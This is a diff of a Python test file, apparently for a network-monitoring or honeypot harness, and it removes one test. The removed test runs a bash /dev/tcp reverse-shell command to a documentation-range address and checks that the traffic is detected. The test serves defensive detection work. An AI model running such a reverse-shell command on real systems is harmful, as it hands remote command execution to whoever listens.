@@ -113,9 +113,3 @@ def test_a_connection_that_says_nothing_is_tempted(net: Net) -> None:
             return client.recv(4096)
 
     assert b"__import__" in net.inside(listen)
-
-
-def test_a_reverse_shell_runs_what_it_is_told_and_that_is_seen(net: Net) -> None:
-    net.run("bash", "-c", "exec 3<>/dev/tcp/203.0.113.66/4445; timeout 5 sh <&3 >&3 2>&1")
-    said = net.heard(lambda s: s.address == "203.0.113.66")
-    assert said.token
